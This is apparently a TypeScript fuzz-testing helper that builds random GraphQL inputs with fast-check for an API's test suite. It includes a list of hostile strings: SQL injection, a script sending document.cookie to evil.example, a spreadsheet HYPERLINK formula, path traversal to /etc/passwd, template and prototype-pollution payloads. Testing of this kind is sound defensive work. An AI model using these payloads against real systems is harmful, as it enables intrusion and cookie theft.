import fc, { type Arbitrary } from 'fast-check';
import { type GraphQLInputType, isEnumType, isInputObjectType, isListType, isNonNullType } from 'graphql';

/** Texts that have broken systems before, by what they aim at. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  SQL: `'; drop table one_thing_case; --`,
  'SQL with a comment': `x'/**/union/**/select/**/*/**/from/**/person--`,
  'patterns of LIKE': '%_%\\',
  HTML: '<img src=x onerror=alert(1)>',
  'a script': '</script><script>fetch("//evil.example/"+document.cookie)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template for whoever would fill it
  'a template': '${7*7}{{7*7}}<%= 7*7 %>#{7*7}',
  'a path': '../../../../etc/passwd',
  'a formula': '=HYPERLINK("http://evil.example","x")',
  NUL: 'a\u0000b',
  'control characters': '\u0001\u0008\u001b[31m\u007f\u0085\r\n',
  'half a character': 'x\ud83dy',
  'writing directions': '\u202eabc\u2066\u2069\ufeff\u200b',
  'combining marks': `z${'\u0301'.repeat(300)}`,
  'full width': '１２３ＡＢＣ',
  emoji: '👨‍👩‍👧‍👦🏳️‍🌈',
  'a long text': '长'.repeat(20_000),
  JSON: '{"$ne": null, "__proto__": {"admin": true}}',
  'a name of JavaScript': 'constructor',
  'another one': '__proto__',
  'a number': '1e309',
  nothing: '',
  blanks: ' \t\u3000\u00a0',
};

const UNUSUAL_NUMBERS = [0, 1, -1, 2 ** 31 - 1, -(2 ** 31)];

const hostileText = fc.constantFrom(...Object.values(HOSTILE_TEXTS));
const anyText = fc.oneof(hostileText, fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ maxLength: 40 }));
/** `__proto__` as a key cannot be sent by any JSON client of ours and is dropped by `JSON.parse` alone. */
const anyJson = fc.oneof(
  fc.jsonValue({ maxDepth: 4 }),
  fc.dictionary(anyText, anyText, { maxKeys: 5 }),
  fc.integer({ min: 1, max: 200 }).map((depth) => JSON.parse(`${'['.repeat(depth)}${']'.repeat(depth)}`) as unknown),
);

/** Values of a GraphQL input type that pass its shape and nothing more; `ids` are of records that exist. */
export function valuesOf(type: GraphQLInputType, ids: readonly string[]): Arbitrary<unknown> {
  if (isNonNullType(type)) return valuesOf(type.ofType, ids);
  if (isListType(type)) return fc.array(valuesOf(type.ofType, ids), { maxLength: 4 });
  if (isEnumType(type)) return fc.constantFrom(...type.getValues().map((v) => v.name));
  if (isInputObjectType(type)) {
    const fields = Object.values(type.getFields());
    const required = fields.filter((f) => isNonNullType(f.type)).map((f) => f.name);
    const model = Object.fromEntries(fields.map((f) => [f.name, valuesOf(f.type, ids)]));
    return fc.record(model, { requiredKeys: required });
  }
  switch (type.name) {
    case 'ID':
      return fc.oneof(fc.constantFrom(...ids), fc.uuid(), anyText);
    case 'Int':
      return fc.oneof(fc.constantFrom(...UNUSUAL_NUMBERS), fc.integer({ min: 1, max: 5 }));
    case 'Boolean':
      return fc.boolean();
    case 'Date':
      return fc.constantFrom('2026-03-09', '0001-01-01', '9999-12-31', '2026-02-30', '');
    case 'DateTime':
      return fc.constantFrom('2026-03-09T02:00:00Z', '0001-01-01T00:00:00Z', '+275760-09-13T00:00:00Z', 'now');
    case 'JSON':
      return anyJson;
    default:
      return anyText;
  }
}
